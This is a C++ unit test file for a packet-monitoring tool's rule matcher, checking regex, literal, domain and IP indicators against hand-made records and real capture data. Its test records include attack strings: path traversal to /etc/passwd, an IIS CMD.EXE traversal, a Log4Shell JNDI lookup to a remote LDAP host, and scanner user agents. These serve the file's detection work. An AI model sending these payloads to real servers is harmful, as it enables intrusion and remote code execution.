// Tests for RuleMatcher on hand-made records (every matching feature, bounds, errors, threads) and of the
// shipped conf/rules.yaml on the corpus's real captures, checked against tshark's and nDPI's answers.
#include "lib/enrich/rule_matcher.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <map>
#include <sstream>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include "lib/app/app_test_pcap.hpp"

namespace spanwatch::lib {
namespace {

namespace fs = std::filesystem;

RuleMatcher compile_yaml(const std::string& yaml) {
  return RuleMatcher(parse_rule_set(yaml, "t.yaml"));
}

std::string compile_error(const std::string& yaml) {
  try {
    compile_yaml(yaml);
  } catch (const std::runtime_error& e) {
    return e.what();
  }
  return "";
}

// The ids matched, in report order.
std::vector<uint32_t> ids(RuleMatcher& m, const RuleMatchInput& in) {
  std::array<RuleMatch, 64> out;
  const size_t n = m.match(in, out);
  std::vector<uint32_t> v;
  for (size_t i = 0; i < n; ++i) v.push_back(out[i].id);
  return v;
}
using Ids = std::vector<uint32_t>;

IpAddress ip(const char* s) {
  return parse_ip_address(s).value();
}

fs::path shipped_rules() {
  std::error_code ec;
  if (const char* root = std::getenv("SPANWATCH_SOURCE_ROOT")) return fs::path(root) / "conf/rules.yaml";
  for (fs::path p : {fs::absolute(__FILE__, ec).parent_path(),
                     fs::read_symlink("/proc/self/exe", ec).parent_path(), fs::current_path(ec)}) {
    for (; !p.empty() && p != p.root_path(); p = p.parent_path()) {
      if (fs::exists(p / "conf/rules.yaml", ec) && fs::exists(p / "lib/enrich", ec))
        return p / "conf/rules.yaml";
    }
  }
  return {};
}

TEST(RuleMatcher, LiteralIsNotARegex) {
  RuleMatcher m = compile_yaml(R"(rules:
  - {id: 1, name: lit, severity: low, field: url, literal: 'a.b(c'}
  - {id: 2, name: re, severity: low, field: url, regex: 'a.b\(c'}
  - {id: 3, name: anchored, severity: low, field: url, regex: '^/admin'}
)");
  RuleMatchInput in;
  in.url = "/x?q=a.b(c";
  EXPECT_EQ(ids(m, in), (Ids{1, 2}));
  in.url = "/x?q=aXb(c";  // only the regex's '.' takes any character
  EXPECT_EQ(ids(m, in), (Ids{2}));
  in.url = "/admin/login";
  EXPECT_EQ(ids(m, in), (Ids{3}));
  in.url = "/x/admin";  // ^ anchors at the start of the field
  EXPECT_EQ(ids(m, in), Ids{});
}

TEST(RuleMatcher, Nocase) {
  RuleMatcher m = compile_yaml(R"(rules:
  - {id: 1, name: exact, severity: low, field: user_agent, literal: sqlmap}
  - {id: 2, name: any case, severity: low, field: user_agent, literal: sqlmap, nocase: true}
  - {id: 3, name: re any case, severity: low, field: user_agent, regex: '^Nikto/', nocase: true}
)");
  RuleMatchInput in;
  in.user_agent = "sqlmap/1.7";
  EXPECT_EQ(ids(m, in), (Ids{1, 2}));
  in.user_agent = "SQLMap/1.7";
  EXPECT_EQ(ids(m, in), (Ids{2}));
  in.user_agent = "nikto/2.5";
  EXPECT_EQ(ids(m, in), (Ids{3}));
}

TEST(RuleMatcher, BinaryPayloadPrefixes) {
  RuleMatcher m = compile_yaml(R"(rules:
  - {id: 1, name: nul literal, severity: low, field: payload_orig, literal: '\x00\x01SSH\xff'}
  - {id: 2, name: tls start, severity: low, field: [payload_orig, payload_resp], regex: '^\x16\x03[\x00-\x04]'}
  - {id: 3, name: resp only, severity: low, field: payload_resp, literal: 'HTTP/1.1 200'}
  - {id: 4, name: late, severity: low, field: payload_orig, literal: 'MARKER'}
)");
  RuleMatchInput in;
  const std::string orig(
      "\x16\x03\x01\x00\x05"
      "ab\x00\x01SSH\xff",
      13);
  in.payload_orig = orig;
  EXPECT_EQ(ids(m, in), (Ids{2, 1}));  // both in the first bytes; reported in match order
  const std::string not_at_start("xx\x16\x03\x01", 5);
  in.payload_orig = not_at_start;
  EXPECT_EQ(ids(m, in), Ids{});
  in.payload_orig = "HTTP/1.1 200 OK";  // a responder pattern does not look at the originator's bytes
  EXPECT_EQ(ids(m, in), Ids{});
  in.payload_resp = in.payload_orig;
  in.payload_orig = {};
  EXPECT_EQ(ids(m, in), (Ids{3}));

  // Only the first kRulePayloadPrefixMax bytes are scanned.
  std::string big(kRulePayloadPrefixMax - 6, 'x');
  in = {};
  in.payload_orig = big + "MARKER";
  EXPECT_EQ(ids(m, in), (Ids{4}));
  big += 'x';
  const std::string cut = big + "MARKER";
  in.payload_orig = cut;
  EXPECT_EQ(ids(m, in), Ids{});
}

TEST(RuleMatcher, DomainListsMatchWholeLabels) {
  RuleMatcher m = compile_yaml(R"(indicators:
  - {id: 9, name: bad, severity: high, type: domain, values: [evil.example, onion]}
)");
  EXPECT_EQ(m.domain_count(), 2u);
  RuleMatchInput in;
  for (const char* hit : {"evil.example", "a.evil.example", "x.y.EVIL.Example", "evil.example.", "abc.onion",
                          "*.evil.example", "onion"}) {
    in.sni = hit;
    EXPECT_EQ(ids(m, in), (Ids{9})) << hit;
  }
  for (const char* miss : {"notevil.example", "evil.example.org", "evilexample", "evil.exampl", "example",
                           "evil-example", "onion.example", ".", "", "a..onionx"}) {
    in.sni = miss;
    EXPECT_EQ(ids(m, in), Ids{}) << miss;
  }
  // Domain lists cover sni, http_host (port ignored), dns_query and the certificate's SANs; not URLs.
  in = {};
  in.http_host = "www.evil.example:8443";
  EXPECT_EQ(ids(m, in), (Ids{9}));
  in = {};
  in.dns_query = "mail.evil.example";
  EXPECT_EQ(ids(m, in), (Ids{9}));
  in = {};
  const std::string_view sans[] = {"good.example", "*.evil.example"};
  in.cert_san = sans;
  EXPECT_EQ(ids(m, in), (Ids{9}));
  in = {};
  in.url = "/evil.example";
  in.user_agent = "evil.example";
  in.cert_subject = "CN=evil.example";
  EXPECT_EQ(ids(m, in), Ids{});

  // A hostile, very long name: only its last 253 bytes can hold a listed domain; no crash, still found.
  const std::string long_name = std::string(100000, 'a') + ".evil.example";
  in = {};
  in.sni = long_name;
  EXPECT_EQ(ids(m, in), (Ids{9}));
}

TEST(RuleMatcher, OverlappingDomainListsAllReport) {
  RuleMatcher m = compile_yaml(R"(indicators:
  - {id: 1, name: wide, severity: low, type: domain, values: [evil.example]}
  - {id: 2, name: narrow, severity: high, type: domain, values: [c2.evil.example, other.test]}
  - {id: 3, name: same, severity: low, type: domain, values: [evil.example]}
)");
  EXPECT_EQ(m.domain_count(), 3u);
  RuleMatchInput in;
  in.dns_query = "x.c2.evil.example";
  std::array<RuleMatch, 8> out;
  ASSERT_EQ(m.match(in, out), 3u);
  // Suffixes are met from the top-level label down: evil.example (lists 1 and 3), then c2.evil.example.
  EXPECT_EQ(out[0].id, 1u);
  EXPECT_EQ(out[1].id, 3u);
  EXPECT_EQ(out[2].id, 2u);
  EXPECT_EQ(out[2].name, "narrow");
  EXPECT_EQ(out[2].severity, RuleSeverity::kHigh);
  EXPECT_EQ(out[2].field, RuleField::kDnsQuery);
  EXPECT_EQ(out[2].rule_index, 1u);
  in.dns_query = "other.evil.example";
  auto got = ids(m, in);
  std::sort(got.begin(), got.end());
  EXPECT_EQ(got, (Ids{1, 3}));
}

TEST(RuleMatcher, IpListsMatchSourceAndDestination) {
  RuleMatcher m = compile_yaml(R"(indicators:
  - {id: 1, name: wide, severity: low, type: ip, values: [10.0.0.0/8, '2001:db8::/32']}
  - {id: 2, name: narrow, severity: high, type: ip, values: [10.1.0.0/16, 192.0.2.7]}
  - {id: 3, name: all v6, severity: low, type: ip, values: ['::/0']}
)");
  EXPECT_EQ(m.network_count(), 5u);
  std::array<RuleMatch, 8> out;
  RuleMatchInput in;
  in.src_ip = ip("10.1.2.3");  // inside both 10/8 and 10.1/16: both lists report
  in.dst_ip = ip("192.0.2.7");
  ASSERT_EQ(m.match(in, out), 2u);
  EXPECT_EQ(out[0].id, 1u);
  EXPECT_EQ(out[0].field, RuleField::kSrcIp);
  EXPECT_EQ(out[1].id, 2u);
  EXPECT_EQ(out[1].field, RuleField::kSrcIp);  // already matched on the source: once per record
  in.src_ip = ip("10.2.0.1");
  ASSERT_EQ(m.match(in, out), 2u);
  EXPECT_EQ(out[0].id, 1u);
  EXPECT_EQ(out[1].id, 2u);
  EXPECT_EQ(out[1].field, RuleField::kDstIp);
  in.src_ip = ip("11.0.0.1");
  in.dst_ip = ip("192.0.2.8");
  EXPECT_EQ(ids(m, in), Ids{});
  in.dst_ip = ip("2001:db8:1::5");  // IPv6: its /32 and ::/0; ::/0 never holds an IPv4 address
  EXPECT_EQ(ids(m, in), (Ids{1, 3}));
  in.dst_ip = ip("2001:db9::1");
  EXPECT_EQ(ids(m, in), (Ids{3}));
  in.dst_ip = ip("::ffff:10.9.9.9");  // the IPv4-mapped form is the IPv4 address
  EXPECT_EQ(ids(m, in), (Ids{1}));
  in.src_ip.reset();
  in.dst_ip.reset();
  EXPECT_EQ(ids(m, in), Ids{});
}

TEST(RuleMatcher, SeveralFieldsEachRuleOnce) {
  RuleMatcher m = compile_yaml(R"(rules:
  - {id: 1, name: host, severity: medium, field: [sni, http_host, dns_query, cert_san], literal: bad, nocase: true}
  - {id: 2, name: ua, severity: low, field: user_agent, regex: 'bot|crawl'}
  - {id: 3, name: issuer, severity: low, field: [cert_subject, cert_issuer], literal: 'O=Evil'}
indicators:
  - {id: 4, name: doms, severity: high, type: domain, values: [bad.example]}
)");
  std::array<RuleMatch, 8> out;
  RuleMatchInput in;
  in.http_host = "bad.example";  // rule 1 in three fields and twice in one, list 4 in three fields
  in.dns_query = "www.bad.example";
  in.user_agent = "crawler bot bot";
  in.cert_issuer = "C=XX, O=Evil, CN=x";
  const std::string_view sans[] = {"bad.example", "BAD.example"};
  in.cert_san = sans;
  ASSERT_EQ(m.match(in, out), 4u);
  EXPECT_EQ(out[0].id, 1u);
  EXPECT_EQ(out[0].field, RuleField::kHttpHost);  // the first field, in RuleField order, that matched
  EXPECT_EQ(out[1].id, 4u);
  EXPECT_EQ(out[1].field, RuleField::kHttpHost);
  EXPECT_EQ(out[2].id, 2u);
  EXPECT_EQ(out[3].id, 3u);
  EXPECT_EQ(out[3].field, RuleField::kCertIssuer);
  EXPECT_EQ(m.counters().matches.get(), 4u);
  // The next record starts afresh.
  in = {};
  in.sni = "BAD";
  EXPECT_EQ(ids(m, in), (Ids{1}));
  EXPECT_EQ(m.counters().records.get(), 2u);
}

TEST(RuleMatcher, CertSanNamesAreLines) {
  RuleMatcher m = compile_yaml(R"(rules:
  - {id: 1, name: www san, severity: low, field: cert_san, regex: '^www\.[a-z]+\.example$'}
  - {id: 2, name: wildcard, severity: low, field: cert_san, regex: '^\*\.'}
)");
  RuleMatchInput in;
  const std::string_view one[] = {"api.example", "www.shop.example", "cdn.example"};
  in.cert_san = one;
  EXPECT_EQ(ids(m, in), (Ids{1}));
  const std::string_view two[] = {"shop.example www.x.example"};  // not a name of its own
  in.cert_san = two;
  EXPECT_EQ(ids(m, in), Ids{});
  const std::string_view three[] = {"a.example", "*.b.example"};
  in.cert_san = three;
  EXPECT_EQ(ids(m, in), (Ids{2}));
}

TEST(RuleMatcher, OutputIsBoundedAndTheRestCounted) {
  RuleMatcher m = compile_yaml(R"(rules:
  - {id: 1, name: a, severity: low, field: url, literal: a}
  - {id: 2, name: b, severity: low, field: url, literal: b}
  - {id: 3, name: c, severity: low, field: url, literal: c}
  - {id: 4, name: d, severity: low, field: sni, literal: d}
  - {id: 5, name: e, severity: low, field: sni, literal: e}
)");
  RuleMatchInput in;
  in.url = "abc";
  in.sni = "de";
  std::array<RuleMatch, 4> buf;
  buf[2].id = 777;  // past the span handed over: must stay untouched
  const std::span<RuleMatch> small = std::span(buf).first(2);
  ASSERT_EQ(m.match(in, small), 2u);
  EXPECT_EQ(small[0].id, 4u);  // sni comes before url
  EXPECT_EQ(small[1].id, 5u);
  EXPECT_EQ(buf[2].id, 777u);
  EXPECT_EQ(m.counters().matches.get(), 5u);
  EXPECT_EQ(m.counters().dropped.get(), 3u);
  EXPECT_EQ(m.match(in, std::span<RuleMatch>()), 0u);
  EXPECT_EQ(m.counters().dropped.get(), 8u);
  std::array<RuleMatch, 8> big;
  EXPECT_EQ(m.match(in, big), 5u);
  EXPECT_EQ(m.counters().dropped.get(), 8u);
  EXPECT_EQ(m.counters().records.get(), 3u);
  EXPECT_EQ(m.counters().scan_errors.get(), 0u);
}

TEST(RuleMatcher, CompileErrorNamesTheRule) {
  const std::string head = R"(rules:
  - {id: 1, name: fine, severity: low, field: [url, sni], regex: '^/ok'}
)";
  // Back-references are outside what Hyperscan supports.
  std::string msg = compile_error(
      head + "  - {id: 2, name: backref, severity: high, field: [url, sni], regex: '(a)\\1'}\n");
  EXPECT_EQ(msg.rfind("t.yaml:3: rule 2 (backref): field sni: Hyperscan rejected the regex \"(a)\\1\": ", 0),
            0u)
      << msg;
  // A pattern that matches the empty string would match every record.
  msg = compile_error(head + "  - {id: 3, name: empty, severity: low, field: payload_resp, regex: 'x*'}\n");
  EXPECT_EQ(
      msg.rfind("t.yaml:3: rule 3 (empty): field payload_resp: Hyperscan rejected the regex \"x*\": ", 0), 0u)
      << msg;
  EXPECT_NE(msg.find("empty"), std::string::npos) << msg;
  msg = compile_error(head + "  - {id: 4, name: unbalanced, severity: low, field: url, regex: 'a(b'}\n");
  EXPECT_EQ(msg.rfind("t.yaml:3: rule 4 (unbalanced): field url: Hyperscan rejected the regex \"a(b\": ", 0),
            0u)
      << msg;
}

TEST(RuleMatcher, CloneOnAnotherThread) {
  RuleMatcher m = compile_yaml(R"(rules:
  - {id: 1, name: ua, severity: low, field: user_agent, regex: '^curl/'}
indicators:
  - {id: 2, name: nets, severity: low, type: ip, values: [192.0.2.0/24]}
)");
  RuleMatcher other = m.clone_for_thread();
  EXPECT_EQ(other.rule_count(), 2u);
  auto work = [](RuleMatcher& matcher, uint64_t& hits) {
    RuleMatchInput in;
    in.user_agent = "curl/8.0";
    in.dst_ip = ip("192.0.2.1");
    std::array<RuleMatch, 4> out;
    for (int i = 0; i < 20000; ++i) hits += matcher.match(in, out);
  };
  uint64_t a = 0, b = 0;
  std::thread t([&] { work(other, b); });
  work(m, a);
  t.join();
  EXPECT_EQ(a, 40000u);
  EXPECT_EQ(b, 40000u);
  EXPECT_EQ(m.counters().records.get(), 20000u);
  EXPECT_EQ(other.counters().records.get(), 20000u);
  // Moving keeps the counters where readers see them.
  const RuleMatcherCounters* where = &other.counters();
  RuleMatcher moved = std::move(other);
  EXPECT_EQ(&moved.counters(), where);
}

TEST(RuleMatcher, EmptyRuleSet) {
  RuleMatcher m(parse_rule_set("", "empty.yaml"));
  RuleMatchInput in;
  in.sni = "anything.example";
  in.payload_orig = "SSH-2.0-x";
  in.src_ip = ip("192.0.2.1");
  EXPECT_EQ(ids(m, in), Ids{});
  EXPECT_EQ(m.counters().records.get(), 1u);
  EXPECT_EQ(m.database_bytes(), 0u);
  RuleMatcher c = m.clone_for_thread();
  EXPECT_EQ(ids(c, in), Ids{});
}

// A ClientHello's first bytes as browsers send them (record header, handshake header, version, random).
const std::string kClientHello("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\x5a\x1b", 13);

TEST(RuleMatcher, ShippedRulesOnTypicalRecords) {
  const fs::path path = shipped_rules();
  ASSERT_FALSE(path.empty()) << "conf/rules.yaml not found; set SPANWATCH_SOURCE_ROOT";
  RuleMatcher m(load_rule_set(path.string()));
  EXPECT_EQ(m.rule_count(), 11u);
  EXPECT_GT(m.database_bytes(), 0u);

  RuleMatchInput benign;
  benign.sni = "www.debian.org";
  benign.http_host = "deb.debian.org";
  benign.url = "/debian/dists/bookworm/InRelease";
  benign.user_agent = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0";
  benign.dns_query = "security.debian.org";
  benign.payload_orig = kClientHello;
  benign.payload_resp = std::string_view("\x16\x03\x03\x00\x7a\x02\x00\x00\x76\x03\x03", 11);
  benign.src_ip = ip("10.0.0.5");
  benign.dst_ip = ip("151.101.2.132");
  EXPECT_EQ(ids(m, benign), (Ids{1008}));  // TLS tagged, nothing else

  struct Case {
    const char* what;
    RuleMatchInput in;
    uint32_t id;
  };
  std::vector<Case> cases(12);
  cases[0] = {"ngrok SNI", {}, 1001};
  cases[0].in.sni = "d4f1-203-0-113-9.ngrok-free.app";
  cases[1] = {"duckdns query", {}, 1001};
  cases[1].in.dns_query = "myhome.DuckDNS.org.";
  cases[2] = {"curl", {}, 1002};
  cases[2].in.user_agent = "curl/7.88.1";
  cases[3] = {"sqlmap", {}, 1003};
  cases[3].in.user_agent = "sqlmap/1.7.2#stable (https://sqlmap.org)";
  cases[4] = {"traversal", {}, 1004};
  cases[4].in.url = "/cgi-bin/.%2e/%2e%2e/etc/passwd";
  cases[5] = {"cmd.exe", {}, 1005};
  cases[5].in.url = "/scripts/..%c1%9c../winnt/system32/CMD.EXE?/c+dir";
  cases[6] = {"log4shell", {}, 1006};
  cases[6].in.user_agent = "${JNDI:ldap://198.51.100.1/a}";
  cases[7] = {"ssh", {}, 1007};
  cases[7].in.payload_resp = "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u2\r\n";
  cases[8] = {"onion", {}, 1009};
  cases[8].in.dns_query = "duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion";
  cases[9] = {"example bad domain", {}, 9001};
  cases[9].in.sni = "www.phish.test";
  cases[10] = {"example bad address", {}, 9002};
  cases[10].in.src_ip = ip("2001:db8:bad:1::1");
  cases[11] = {"tls", {}, 1008};
  cases[11].in.payload_orig = kClientHello;
  for (const Case& c : cases) {
    const Ids got = ids(m, c.in);
    EXPECT_NE(std::find(got.begin(), got.end(), c.id), got.end()) << c.what;
  }
  // Near misses stay quiet.
  RuleMatchInput in;
  in.sni = "notngrok.io.example";
  in.user_agent = "Mozilla/5.0 curl-like";
  in.url = "/docs/../";  // no: only a traversal with a separator after ".." counts... which this has
  EXPECT_EQ(ids(m, in), (Ids{1004}));
  in.url = "/a..b/c";
  in.payload_orig = "GET / HTTP/1.1\r\nUser-Agent: SSH-2.0\r\n";
  in.dns_query = "onion.example";
  in.dst_ip = ip("192.0.3.1");
  EXPECT_EQ(ids(m, in), Ids{});
}

// nDPI's protocol names per TCP conversation ("a:pa b:pb" in both orders -> "TLS.Google"), from the
// corpus's ndpiReader output: content-based, so it also knows SSH/TLS on ports tshark does not dissect.
std::map<std::string, std::string> ndpi_tcp_protocols(const fs::path& pcap) {
  std::map<std::string, std::string> out;
  const fs::path flows = apptest::corpus_root() / "truth" / "ndpi42" / pcap.parent_path().filename() /
                         (pcap.filename().string() + ".flows.txt");
  for (const std::string& line : apptest::split(apptest::read_text(flows), '\n')) {
    const size_t tcp = line.find("\tTCP ");
    const size_t proto = line.find("[proto: ");
    if (tcp == std::string::npos || proto == std::string::npos) continue;
    std::istringstream words(line.substr(tcp + 5, proto - tcp - 5));
    std::string a, arrow, b;
    words >> a >> arrow >> b;
    auto unbracket = [](std::string ep) {  // "[2001:db8::1]:443" -> "2001:db8::1:443"
      ep.erase(std::remove(ep.begin(), ep.end(), '['), ep.end());
      ep.erase(std::remove(ep.begin(), ep.end(), ']'), ep.end());
      return ep;
    };
    a = unbracket(a);
    b = unbracket(b);
    const size_t slash = line.find('/', proto);
    const std::string name = line.substr(slash + 1, line.find(']', slash) - slash - 1);
    out[a + " " + b] += name + " ";
    out[b + " " + a] += name + " ";
  }
  return out;
}

// The shipped rules over every TCP conversation of the real captures, against tshark's view of them: the SSH
// and TLS payload rules fire only where tshark saw an SSH banner / a TLS ClientHello and catch (nearly) all
// of them, and the rules and example indicators for names and addresses fire exactly where a plain suffix
// check of tshark's SNI and DNS names says they should (none, on this corpus).
TEST(RuleMatcherCorpus, ShippedRulesAgreeWithTshark) {
  const auto pcaps = apptest::corpus_pcaps();
  if (pcaps.empty()) GTEST_SKIP() << "no corpus";
  const fs::path path = shipped_rules();
  ASSERT_FALSE(path.empty());
  RuleMatcher m(load_rule_set(path.string()));

  const std::vector<std::string> tunnel_suffixes = {
      "ngrok.io", "ngrok-free.app", "ngrok.app",   "trycloudflare.com", "serveo.net",
      "loca.lt",  "localtunnel.me", "pagekite.me", "portmap.io",        "duckdns.org",
      "ddns.net", "no-ip.org",      "hopto.org",   "dynu.net",          "freedns.afraid.org"};
  auto lower = [](std::string s) {
    for (char& c : s) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
    if (!s.empty() && s.back() == '.') s.pop_back();
    return s;
  };
  auto under = [](const std::string& name, const std::string& dom) {
    return name == dom || (name.size() > dom.size() && name.ends_with("." + dom));
  };

  size_t convs = 0, ssh_truth = 0, ssh_hit = 0, tls_truth = 0, tls_hit = 0;
  std::vector<std::string> ssh_missed, tls_missed;
  for (const fs::path& pcap : pcaps) {
    std::string err;
    const auto cs = apptest::read_conversations(pcap.string(), err, kRulePayloadPrefixMax);
    const auto rows = apptest::read_tshark_conv(pcap);
    const auto ndpi = ndpi_tcp_protocols(pcap);
    for (size_t i = 0; i < rows.size(); ++i) {
      const apptest::TsharkRow& row = rows[i];
      if (row["proto"] != "tcp") continue;
      const apptest::Conversation* c = apptest::match_row(cs, rows, i);
      if (c == nullptr) continue;
      ++convs;
      const int orig = c->syn_dir >= 0 ? c->syn_dir : 0;
      const std::string sni = row["tls_sni"] == "-" ? "" : row["tls_sni"];
      std::string query = row["dns_queries"] == "-" ? "" : row["dns_queries"];
      query = query.substr(0, query.find_first_of("/,;"));
      RuleMatchInput in;
      in.payload_orig =
          std::string_view(reinterpret_cast<const char*>(c->stream[orig].data()), c->stream[orig].size());
      in.payload_resp = std::string_view(reinterpret_cast<const char*>(c->stream[1 - orig].data()),
                                         c->stream[1 - orig].size());
      in.sni = sni;
      in.dns_query = query;
      in.src_ip = parse_ip_address(c->addr[orig]);
      in.dst_ip = parse_ip_address(c->addr[1 - orig]);
      const Ids got = ids(m, in);
      auto has = [&](uint32_t id) { return std::find(got.begin(), got.end(), id) != got.end(); };
      const std::string where = pcap.filename().string() + " " + row["conv"];

      const auto np =
          ndpi.find(row["addr_a"] + ":" + row["port_a"] + " " + row["addr_b"] + ":" + row["port_b"]);
      const std::string ndpi_says = np == ndpi.end() ? "" : np->second;

      const bool ssh = row["ssh_banner_a"] != "-" || row["ssh_banner_b"] != "-";
      ssh_truth += ssh;
      ssh_hit += ssh && has(1007);
      // tshark dissects SSH by port; nDPI by content ("Known Protocol on Non Standard Port").
      EXPECT_TRUE(!has(1007) || ssh || ndpi_says.find("SSH") != std::string::npos)
          << where << ": SSH rule where neither tshark nor nDPI saw SSH";
      if (ssh && !has(1007)) ssh_missed.push_back(where);

      const bool hello = row["tls_ja3"] != "-";
      tls_truth += hello;
      tls_hit += hello && has(1008);
      EXPECT_TRUE(!has(1008) || hello || ndpi_says.find("TLS") != std::string::npos)
          << where << ": TLS rule where neither tshark nor nDPI saw TLS";
      if (hello && !has(1008)) tls_missed.push_back(where);

      bool tunnel = false;
      for (const std::string& name : {lower(sni), lower(query)})
        for (const std::string& s : tunnel_suffixes) tunnel = tunnel || under(name, s);
      EXPECT_EQ(has(1001), tunnel) << where;
      EXPECT_EQ(has(1009), lower(sni).ends_with(".onion") || lower(query).ends_with(".onion")) << where;
      bool listed = false;
      for (const std::string& name : {lower(sni), lower(query)})
        for (const char* d : {"c2.example", "phish.test", "exfil.invalid"}) listed = listed || under(name, d);
      EXPECT_EQ(has(9001), listed) << where;
      bool doc_net = false;
      for (const auto& a : {in.src_ip, in.dst_ip}) {
        for (const char* n : {"192.0.2.0/24", "198.51.100.7", "2001:db8:bad::/48"})
          doc_net = doc_net || (a && cidr_contains(*parse_cidr(n), *a));
      }
      EXPECT_EQ(has(9002), doc_net) << where;
    }
  }
  std::string missed;
  for (const auto& s : ssh_missed) missed += "\n  ssh " + s;
  for (const auto& s : tls_missed) missed += "\n  tls " + s;
  std::printf(
      "corpus: %zu TCP conversations; SSH rule %zu of %zu banners, TLS rule %zu of %zu ClientHellos%s\n",
      convs, ssh_hit, ssh_truth, tls_hit, tls_truth, missed.c_str());
  EXPECT_GT(convs, 2000u);
  EXPECT_GT(ssh_truth, 50u);
  EXPECT_GT(tls_truth, 200u);
  // Every SSH banner starts its direction. TLS misses are by design: STARTTLS (SMTP, POP3, FTP, LDAP, XMPP,
  // MySQL, PostgreSQL), HTTP CONNECT/SOCKS proxies, and captures whose first packet is the server's.
  EXPECT_EQ(ssh_hit, ssh_truth);
  EXPECT_GE(tls_hit * 100, tls_truth * 90);
  EXPECT_EQ(m.counters().scan_errors.get(), 0u);
}

}  // namespace
}  // namespace spanwatch::lib
